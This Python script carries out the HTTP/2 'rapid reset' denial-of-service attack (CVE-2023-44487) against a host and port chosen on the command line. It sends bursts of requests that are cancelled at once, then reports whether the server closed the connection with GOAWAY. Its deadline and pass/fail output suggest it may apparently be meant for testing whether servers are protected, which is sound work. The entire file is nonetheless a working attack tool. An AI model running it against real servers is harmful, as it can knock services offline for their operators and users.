#!/usr/bin/env python3
"""The 2023 HTTP/2 "rapid reset" attack (CVE-2023-44487), against a server over h2c with prior knowledge:
open a stream with a request and reset it at once, many times, in bursts, without waiting for anything.

    h2_rapid_reset.py HOST PORT COUNT

Prints `GOAWAY <error code name>` if the server closed the connection with GOAWAY, or `NO-GOAWAY` if it
took all COUNT requests and resets; then `SENT <n>`, the requests that went out before the server stopped
reading. Bounded by a 20 s deadline.
"""

import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events


def goaway_in(conn, data):
    """The error code of a GOAWAY among the frames in `data`, or None."""
    for event in conn.receive_data(data):
        if isinstance(event, h2.events.ConnectionTerminated):
            return event.error_code
    return None


def main():
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    sock = socket.create_connection((host, port), timeout=5)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":path", "/hello"), (":scheme", "http"), (":authority", f"{host}:{port}")]
    sent, goaway = 0, None
    deadline = time.monotonic() + 20
    try:
        while sent < count and goaway is None and time.monotonic() < deadline:
            for _ in range(min(50, count - sent)):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                sent += 1
            sock.sendall(conn.data_to_send())
            sock.setblocking(False)
            try:
                data = sock.recv(65536)
                if not data:
                    break
                goaway = goaway_in(conn, data)
            except BlockingIOError:
                pass
            finally:
                sock.setblocking(True)
        # Read what the server says once the burst is over.
        sock.settimeout(3)
        while goaway is None:
            data = sock.recv(65536)
            if not data:
                break
            goaway = goaway_in(conn, data)
            sock.sendall(conn.data_to_send())
    except (OSError, h2.exceptions.ProtocolError):
        pass
    name = goaway.name if isinstance(goaway, h2.errors.ErrorCodes) else goaway
    print(f"GOAWAY {name}" if goaway is not None else "NO-GOAWAY")
    print(f"SENT {sent}")


if __name__ == "__main__":
    main()
